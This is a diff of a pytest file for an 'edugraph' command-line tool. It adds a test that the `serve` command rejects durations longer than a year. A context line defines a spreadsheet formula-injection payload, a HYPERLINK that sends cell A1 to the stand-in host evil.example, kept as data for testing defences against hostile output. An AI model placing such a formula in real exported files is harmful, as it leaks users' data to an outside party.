@@ -70,6 +70,15 @@ def test_a_query_meeting_a_damaged_block_says_how_to_make_the_store_again(seed_b
     assert "run `edugraph build --full`" in outcome.stderr
 
 
+@pytest.mark.parametrize("option", ["--timeout", "--queue-wait"])
+def test_serve_durations_are_at_most_a_year_as_every_other_duration(seed_build, option):
+    """(e) docs/SECURITY.md: durations on the command line are at most a year. `serve` read its own as any float
+    below infinity (`--timeout 1e10` started the endpoint)."""
+    outcome = run_subprocess(["serve", "--build", str(seed_build), "--port", "0", option, "1e10"], {})
+    assert outcome.code == 2 and outcome.stderr.count("\n") == 1, outcome
+    assert outcome.stderr.startswith(f"edugraph: error: {option} 1e+10: give a number of seconds"), outcome
+    assert "at most 31536000" in outcome.stderr or "from 0 to 31536000" in outcome.stderr
+
 # --- hostile content through the outputs ---------------------------------------------------------------------------
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"click")'
